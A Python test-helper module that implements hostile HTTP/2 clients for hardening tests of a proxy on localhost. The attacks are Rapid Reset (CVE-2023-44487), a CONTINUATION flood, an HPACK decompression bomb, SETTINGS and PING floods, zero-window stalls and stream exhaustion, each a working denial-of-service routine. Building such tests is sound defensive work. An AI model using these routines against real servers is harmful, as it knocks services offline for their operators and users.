"""Hostile HTTP/2 clients, frame by frame (hyperframe + hpack), for the hardening tests.

Each attack talks h2c prior knowledge to 127.0.0.1:port, runs for a bounded number of
frames and seconds, and returns what the server did: whether it closed the connection, the
GOAWAY error code it sent (if any), how many bytes the attacker got to send. The tests run
them against a proxy while a well-behaved client checks that the proxy still serves
others, and that its memory stays bounded.
"""
from __future__ import annotations

import socket
import time
from collections import Counter
from dataclasses import dataclass, field

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, NO_ERROR, ENHANCE_YOUR_CALM, PROTOCOL_ERROR = 0x8, 0x0, 0xB, 0x1


@dataclass
class Outcome:
    """What the server did to an attacker."""

    closed: bool = False                  # the server closed the connection (or reset it)
    goaway: int | None = None             # the GOAWAY error code, if one arrived
    frames_sent: int = 0
    seconds: float = 0.0
    received: Counter = field(default_factory=Counter)   # frame type name -> count
    statuses: list = field(default_factory=list)   # :status of each response HEADERS

    @property
    def stopped(self) -> bool:
        """The server ended the attack: it closed, or said GOAWAY with an error."""
        return self.closed or (self.goaway is not None and self.goaway != NO_ERROR)


class RawClient:
    """An h2c connection driven frame by frame, reading what the server sends without blocking."""

    def __init__(self, port: int, host: str = "127.0.0.1", authority: str = "upstream",
                 reads: bool = True) -> None:
        # A flooder never reads: with a small receive buffer the server's answers back up at
        # once, which is what its flood protection must notice.
        self.reads = reads
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if not reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.settimeout(5)
        self.sock.connect((host, port))
        self.sock.setblocking(False)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.authority = authority
        self.buffer = b""
        self.outcome = Outcome()
        self.started = time.monotonic()
        self.send_raw(PREFACE + SettingsFrame(0).serialize())

    def send_raw(self, data: bytes) -> bool:
        """Send bytes; False once the server closed (nothing more can be sent)."""
        view = memoryview(data)
        deadline = time.monotonic() + 2.0
        while view:
            try:
                sent = self.sock.send(view)
                view = view[sent:]
            except BlockingIOError:
                # The server stopped reading us: give it a moment (reading its answers
                # unless this client floods), then stop sending.
                if self.reads:
                    self.poll(0.01)
                else:
                    time.sleep(0.01)
                if time.monotonic() > deadline or self.outcome.closed:
                    return False
            except OSError:
                self.outcome.closed = True
                return False
        return True

    def send(self, frame: Frame) -> bool:
        self.outcome.frames_sent += 1
        return self.send_raw(frame.serialize())

    def headers(self, stream_id: int, path: str = "/", end_stream: bool = True,
                extra: list | None = None, end_headers: bool = True) -> HeadersFrame:
        block = self.encoder.encode([(":method", "GET"), (":scheme", "http"),
                                     (":authority", self.authority), (":path", path)]
                                    + (extra or []))
        flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
        return HeadersFrame(stream_id, data=block, flags=flags)

    def poll(self, seconds: float = 0.0) -> None:
        """Read whatever arrived (frames are parsed only for their type and GOAWAY code)."""
        deadline = time.monotonic() + seconds
        while True:
            try:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.outcome.closed = True
                    return
                self._parse(chunk)
            except BlockingIOError:
                if time.monotonic() >= deadline:
                    return
                time.sleep(0.005)
            except OSError:
                self.outcome.closed = True
                return

    def _parse(self, chunk: bytes) -> None:
        self.buffer += chunk
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            body, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                self.outcome.goaway = frame.error_code
            elif isinstance(frame, HeadersFrame):
                frame.parse_body(memoryview(body))
                try:
                    fields = dict(self.decoder.decode(frame.data))
                except hpack.HPACKError:
                    fields = {}
                if ":status" in fields:
                    self.outcome.statuses.append(int(fields[":status"]))
            self.outcome.received[type(frame).__name__] += 1

    def finish(self) -> Outcome:
        self.poll(0.5)
        self.outcome.seconds = time.monotonic() - self.started
        try:
            self.sock.close()
        except OSError:
            pass
        return self.outcome


def rapid_reset(port: int, streams: int = 3000, seconds: float = 10.0) -> Outcome:
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)."""
    client = RawClient(port)
    deadline = time.monotonic() + seconds
    for i in range(streams):
        stream_id = 1 + 2 * i
        ok = client.send(client.headers(stream_id)) and client.send(RstStreamFrame(stream_id, error_code=CANCEL))
        if not ok or time.monotonic() > deadline:
            break
        if i % 50 == 0:
            client.poll()
            if client.outcome.stopped:
                break
    return client.finish()


def continuation_flood(port: int, frames: int = 20000, seconds: float = 10.0) -> Outcome:
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    client = RawClient(port)
    client.send(client.headers(1, end_headers=False))
    filler = client.encoder.encode([("x-flood", "a" * 1000)])
    deadline = time.monotonic() + seconds
    for i in range(frames):
        if not client.send(ContinuationFrame(1, data=filler)) or time.monotonic() > deadline:
            break
        if i % 100 == 0:
            client.poll()
            if client.outcome.stopped:
                break
    return client.finish()


def hpack_bomb(port: int, repeats: int = 20000) -> Outcome:
    """A 4 KiB header put in the dynamic table once, then referenced thousands of times in
    one header block: a few KiB on the wire that decode to tens of MiB."""
    client = RawClient(port)
    encoder = client.encoder
    encoder.header_table_size = 4096
    first = encoder.encode([(":method", "GET"), (":scheme", "http"),
                            (":authority", client.authority), (":path", "/"),
                            ("x-bomb", "b" * 4000)])
    index = encoder.encode([("x-bomb", "b" * 4000)])   # now an indexed reference: 1-2 bytes
    block = first + index * repeats
    frames = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    client.send(HeadersFrame(1, data=frames[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(frames) == 1 else [])))
    for n, piece in enumerate(frames[1:], 1):
        client.send(ContinuationFrame(1, data=piece, flags=["END_HEADERS"] if n == len(frames) - 1 else []))
    client.poll(2.0)
    return client.finish()


def settings_flood(port: int, frames: int = 1000000, seconds: float = 10.0) -> Outcome:
    """SETTINGS frames as fast as possible, never reading the ACKs the server must send."""
    client = RawClient(port, reads=False)
    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
    deadline = time.monotonic() + seconds
    for _ in range(frames):
        if not client.send(frame) or time.monotonic() > deadline:
            break
    return client.finish()


def ping_flood(port: int, frames: int = 400000, seconds: float = 10.0) -> Outcome:
    """PING frames as fast as possible, never reading the PING ACKs."""
    client = RawClient(port, reads=False)
    deadline = time.monotonic() + seconds
    for i in range(frames):
        if not client.send(PingFrame(0, opaque_data=i.to_bytes(8, "big"))) or time.monotonic() > deadline:
            break
    return client.finish()


def zero_window(port: int, streams: int = 50, path: str = "/", seconds: float = 3.0) -> Outcome:
    """SETTINGS_INITIAL_WINDOW_SIZE 0, then many requests whose answers can never be sent."""
    client = RawClient(port)
    client.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
    for i in range(streams):
        client.send(client.headers(1 + 2 * i, path=path))
    client.poll(seconds)
    return client.finish()


def too_many_streams(port: int, streams: int = 400, path: str = "/") -> Outcome:
    """Open more streams than the server allows, none finished (request bodies never sent)."""
    client = RawClient(port)
    for i in range(streams):
        if not client.send(client.headers(1 + 2 * i, path=path, end_stream=False)):
            break
    client.poll(1.0)
    for i in range(streams):   # leave cleanly enough to be counted
        client.send(DataFrame(1 + 2 * i, data=b"", flags=["END_STREAM"]))
    client.send(WindowUpdateFrame(0, window_increment=1))
    return client.finish()
